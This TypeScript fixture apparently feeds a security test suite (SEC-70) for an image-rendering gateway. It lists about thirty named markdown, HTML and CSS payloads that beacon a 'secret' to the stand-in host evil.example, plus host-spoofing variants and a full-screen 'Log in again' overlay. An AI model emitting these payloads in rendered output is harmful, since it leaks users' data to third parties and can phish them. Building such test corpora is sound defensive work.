import type { Payload } from "./payload.ts";

/** What would tell a stranger something as soon as it is shown (SEC-70). */
export const BEACONS: readonly Payload[] = [
  ["picture", "![a](https://evil.example/?q=secret)"],
  ["picture with a title", '![a](https://evil.example/?q=secret "b")'],
  ["picture without encryption", "![a](http://evil.example/?q=secret)"],
  ["picture without a scheme", "![a](//evil.example/?q=secret)"],
  ["picture in pointed brackets", "![a](<https://evil.example/?q=my secret>)"],
  ["picture by reference", "![a][b]\n\n[b]: https://evil.example/?q=secret"],
  ["picture by its label", "![a]\n\n[a]: https://evil.example/?q=secret"],
  ["picture in a link", "[![a](https://evil.example/?q=secret)](https://fal.ai)"],
  ["picture in a picture", "![![a](https://evil.example/?q=secret)](https://evil.example/)"],
  ["picture in a table", "|a|\n|-|\n|![b](https://evil.example/?q=secret)|"],
  ["picture in a heading", "# ![a](https://evil.example/?q=secret)"],
  ["picture under the gateway's own words", "![Generated Image](https://evil.example/?q=secret)"],
  [
    "picture under these words, of a page of the gateway",
    "![Generated Image](http://127.0.0.1:1/?q=secret)",
  ],
  ["picture of a host that ends like fal's", "![a](https://evilfal.media/?q=secret)"],
  ["picture of a host that begins like fal's", "![a](https://fal.media.evil.example/?q=secret)"],
  ["picture with fal as a name", "![a](https://v3.fal.media@evil.example/?q=secret)"],
  ["picture in HTML", '<img src="https://evil.example/?q=secret">'],
  ["pictures for several screens", '<img srcset="https://evil.example/?q=secret 2x">'],
  [
    "picture with sources",
    '<picture><source srcset="https://evil.example/?q=secret"><img></picture>',
  ],
  ["picture of a button", '<input type="image" src="https://evil.example/?q=secret">'],
  ["picture of a video", '<video poster="https://evil.example/?q=secret"></video>'],
  ["subtitles", '<video><track default src="https://evil.example/a.vtt"></video>'],
  ["background", '<table background="https://evil.example/?q=secret"><tr><td>a</table>'],
  ["style", '<p style="background:url(https://evil.example/?q=secret)">a</p>'],
  ["style element", "<style>body{background:url(https://evil.example/?q=secret)}</style>"],
  ["style that imports", "<style>@import url(https://evil.example/a.css);</style>"],
  ["style that reads", '<style>input[value^="k"]{background:url(https://evil.example/?k)}</style>'],
  [
    "font",
    "<style>@font-face{font-family:a;src:url(https://evil.example/a.woff)}*{font-family:a}</style>",
  ],
  [
    "style that covers the page",
    '<div style="position:fixed;inset:0;z-index:99">Log in again</div>',
  ],
  ["counters of a list", '<ol style="list-style:url(https://evil.example/?q=secret)"><li>a</ol>'],
];
